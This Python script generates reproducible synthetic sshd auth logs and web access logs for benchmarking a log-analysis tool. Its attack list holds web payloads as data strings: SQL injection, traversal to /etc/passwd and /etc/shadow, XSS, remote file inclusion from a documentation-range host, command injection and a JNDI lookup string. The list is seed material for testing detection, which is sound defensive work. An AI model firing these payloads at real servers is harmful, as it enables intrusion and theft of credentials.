"""Deterministic synthetic logs for the benchmarks: an auth.log and an access log.

Every address comes from the documentation ranges (192.0.2.0/24, 198.51.100.0/24,
203.0.113.0/24 and 2001:db8::/32). The same seed and line count always give the same bytes,
so a figure in docs/benchmarks.md can be reproduced exactly.

Run `python bench/generate.py auth OUT [--lines N] [--seed S]` (or `access`) to write one file.
"""

from __future__ import annotations

import argparse
import ipaddress
import random
from collections.abc import Iterator
from pathlib import Path

DEFAULT_SEED = 20261204
DEFAULT_LINES = 1_000_000

_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_V4_NETWORKS = ("192.0.2.", "198.51.100.", "203.0.113.")
_USERS = (
    "root",
    "admin",
    "test",
    "user",
    "oracle",
    "postgres",
    "ubuntu",
    "git",
    "pi",
    "guest",
    "ftpuser",
    "support",
    "deploy",
    "www-data",
    "nagios",
    "hadoop",
    "minecraft",
    "ec2-user",
)
_STAFF = ("alice", "bob", "carol", "deploy")
_COMMANDS = (
    "/usr/bin/apt update",
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/journalctl -u ssh",
    "/bin/ls /root",
    "/usr/bin/tail -n 50 /var/log/syslog",
)


def documentation_address(rng: random.Random) -> str:
    """Return a random IPv4 or IPv6 address from the documentation ranges (75% IPv4)."""
    if rng.random() < 0.75:
        return f"{rng.choice(_V4_NETWORKS)}{rng.randint(1, 254)}"
    return str(ipaddress.IPv6Address((0x20010DB8 << 96) | rng.getrandbits(64)))


def source_pool(rng: random.Random, size: int) -> list[str]:
    """Return `size` distinct documentation addresses: every IPv4 one first, then IPv6."""
    pool = [f"{network}{host}" for network in _V4_NETWORKS for host in range(1, 255)]
    rng.shuffle(pool)
    pool = pool[:size]
    seen = set(pool)
    while len(pool) < size:
        address = str(ipaddress.IPv6Address((0x20010DB8 << 96) | rng.getrandbits(64)))
        if address not in seen:
            seen.add(address)
            pool.append(address)
    return pool


def _syslog_time(second: int) -> str:
    """Format second `second` after 1 December 00:00:00 as a traditional syslog time."""
    day = 1 + second // 86400
    rest = second % 86400
    return f"Dec {day:2d} {rest // 3600:02d}:{rest // 60 % 60:02d}:{rest % 60:02d}"


def auth_lines(
    count: int, seed: int = DEFAULT_SEED, sources: int = 5000, failure_share: float = 0.28
) -> Iterator[str]:
    """Yield an auth.log of `count` lines: sshd attacks from `sources` addresses amid routine noise.

    The mix, by weight: `failure_share` (28%) sshd failures (failed password or publickey,
    invalid user, PAM authentication failure); the rest splits as 10 : 8 : 10 : 40 : 4 between
    other sshd pre-authentication noise, accepted log-ins and their sessions, sudo, cron
    sessions and systemd-logind. The clock advances about 12 lines per second, starting on
    1 December.
    """
    rng = random.Random(seed)
    pool = source_pool(rng, sources)
    host = "bastion"
    for number in range(count):
        stamp = _syslog_time(number // 12)
        pid = 1000 + rng.randrange(60000)
        roll = rng.random()
        if roll >= failure_share:
            # Spread the rest over the noise kinds in their default proportions.
            roll = 0.28 + (roll - failure_share) / (1 - failure_share) * 0.72
        if roll < 0.28:
            address = rng.choice(pool)
            port = rng.randint(1024, 65535)
            user = rng.choice(_USERS)
            kind = rng.random()
            if kind < 0.45:
                invalid = "" if user == "root" else "invalid user "
                method = "password" if rng.random() < 0.9 else "publickey"
                text = f"sshd[{pid}]: Failed {method} for {invalid}{user} from {address} port {port} ssh2"
            elif kind < 0.7:
                text = f"sshd[{pid}]: Invalid user {user} from {address} port {port}"
            else:
                text = (
                    f"sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 "
                    f"euid=0 tty=ssh ruser= rhost={address}  user={user}"
                )
        elif roll < 0.38:
            address = rng.choice(pool)
            port = rng.randint(1024, 65535)
            kind = rng.random()
            if kind < 0.4:
                text = f"sshd[{pid}]: Received disconnect from {address} port {port}:11: Bye Bye [preauth]"
            elif kind < 0.7:
                text = f"sshd[{pid}]: Disconnected from authenticating user root {address} port {port} [preauth]"
            else:
                text = f"sshd[{pid}]: Connection closed by {address} port {port} [preauth]"
        elif roll < 0.46:
            user = rng.choice(_STAFF)
            kind = rng.random()
            if kind < 0.4:
                address = f"198.51.100.{rng.randint(200, 210)}"
                text = (
                    f"sshd[{pid}]: Accepted publickey for {user} from {address} port "
                    f"{rng.randint(1024, 65535)} ssh2: ED25519 SHA256:{rng.getrandbits(128):032x}"
                )
            elif kind < 0.8:
                text = f"sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)"
            else:
                text = f"sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}"
        elif roll < 0.56:
            user = rng.choice(_STAFF)
            kind = rng.random()
            if kind < 0.34:
                text = (
                    f"sudo:    {user} : TTY=pts/{rng.randint(0, 4)} ; PWD=/home/{user} ; USER=root ; "
                    f"COMMAND={rng.choice(_COMMANDS)}"
                )
            elif kind < 0.67:
                text = f"sudo: pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1000)"
            else:
                text = "sudo: pam_unix(sudo:session): session closed for user root"
        elif roll < 0.96:
            if rng.random() < 0.5:
                text = f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
            else:
                text = f"CRON[{pid}]: pam_unix(cron:session): session closed for user root"
        else:
            text = f"systemd-logind[412]: New session {rng.randint(1, 9999)} of user {rng.choice(_STAFF)}."
        yield f"{stamp} {host} {text}"


_PAGES = (
    "/",
    "/index.html",
    "/about",
    "/blog/2024/03/release-notes",
    "/static/css/site.css",
    "/static/js/app.js",
    "/images/logo.png",
    "/favicon.ico",
    "/api/v1/items",
    "/login",
    "/search",
    "/products/1234",
    "/cart",
    "/robots.txt",
    "/sitemap.xml",
    "/feed.xml",
)
_QUERIES = (
    "",
    "",
    "",
    "?page=2",
    "?q=garden+chairs&sort=price",
    "?id=42",
    "?utm_source=newsletter",
    "?lang=en-GB",
    "?q=caf%C3%A9",
)
_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
)
_REFERERS = ("-", "-", "https://www.example.com/", "https://www.example.com/search?q=chairs")
_ATTACKS = (
    ("GET", "/products.php?id=1%27%20OR%20%271%27%3D%271", 200),
    ("GET", "/item?id=1+UNION+SELECT+username,password+FROM+users--", 500),
    ("GET", "/search?q=1'%20AND%20SLEEP(5)--%20-", 200),
    ("GET", "/index.php?page=../../../../etc/passwd", 404),
    ("GET", "/download?file=..%2F..%2F..%2Fetc%2Fshadow", 400),
    ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200),
    ("GET", "/index.php?include=http://203.0.113.66/shell.txt?", 200),
    ("GET", "/cgi-bin/test.cgi?cmd=;cat%20/etc/passwd", 404),
    ("GET", "/wp-login.php", 404),
    ("GET", "/.env", 404),
    ("GET", "/phpmyadmin/index.php", 404),
    ("POST", "/xmlrpc.php", 404),
)
_ATTACK_AGENTS = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6)",
    "${jndi:ldap://203.0.113.7:1389/a}",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
)


def access_lines(count: int, seed: int = DEFAULT_SEED, attack_share: float = 0.03) -> Iterator[str]:
    """Yield a combined-format access log of `count` lines with `attack_share` attack requests.

    Attacks are SQL injection, traversal, XSS, remote file inclusion, command injection, scanner
    paths and scanner or JNDI user agents; benign lines include percent-encoded and `+` queries.
    """
    rng = random.Random(seed)
    pool = source_pool(rng, 2000)
    for number in range(count):
        second = number // 40
        stamp = f"{1 + second // 86400:02d}/Dec/2026:{second % 86400 // 3600:02d}:{second // 60 % 60:02d}:{second % 60:02d} +0000"
        address = rng.choice(pool)
        size = rng.randint(200, 90000)
        if rng.random() < attack_share:
            if rng.random() < 0.75:
                method, target, status = rng.choice(_ATTACKS)
                agent = rng.choice(_AGENTS)
            else:
                method, target, status = "GET", rng.choice(_PAGES), 200
                agent = rng.choice(_ATTACK_AGENTS)
        else:
            method = "GET" if rng.random() < 0.9 else "POST"
            target = rng.choice(_PAGES) + rng.choice(_QUERIES)
            status = rng.choice((200, 200, 200, 200, 304, 301, 404))
            agent = rng.choice(_AGENTS)
        referer = rng.choice(_REFERERS)
        yield f'{address} - - [{stamp}] "{method} {target} HTTP/1.1" {status} {size} "{referer}" "{agent}"'


def write_lines(path: Path, lines: Iterator[str]) -> int:
    """Write lines to `path` with newline endings; return how many were written."""
    written = 0
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="\n") as handle:
        buffer = []
        for line in lines:
            buffer.append(line)
            if len(buffer) >= 10000:
                handle.write("\n".join(buffer) + "\n")
                written += len(buffer)
                buffer.clear()
        if buffer:
            handle.write("\n".join(buffer) + "\n")
            written += len(buffer)
    return written


def ensure(
    path: Path,
    kind: str,
    lines: int = DEFAULT_LINES,
    seed: int = DEFAULT_SEED,
    failure_share: float = 0.28,
) -> Path:
    """Generate the `kind` ("auth" or "access") file at `path` unless its marker file records
    the same parameters."""
    marker = path.with_name(path.name + ".params")
    params = f"{kind} lines={lines} seed={seed} failure_share={failure_share}\n"
    if path.exists() and marker.exists() and marker.read_text() == params:
        return path
    if kind == "auth":
        generator = auth_lines(lines, seed, failure_share=failure_share)
    else:
        generator = access_lines(lines, seed)
    write_lines(path, generator)
    marker.write_text(params)
    return path


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("kind", choices=["auth", "access"])
    parser.add_argument("output", type=Path)
    parser.add_argument("--lines", type=int, default=DEFAULT_LINES)
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED)
    parser.add_argument("--failure-share", type=float, default=0.28, help="auth only")
    args = parser.parse_args()
    ensure(args.output, args.kind, args.lines, args.seed, args.failure_share)
    print(f"wrote {args.output} ({args.kind}, {args.lines} lines, seed {args.seed})")


if __name__ == "__main__":
    main()
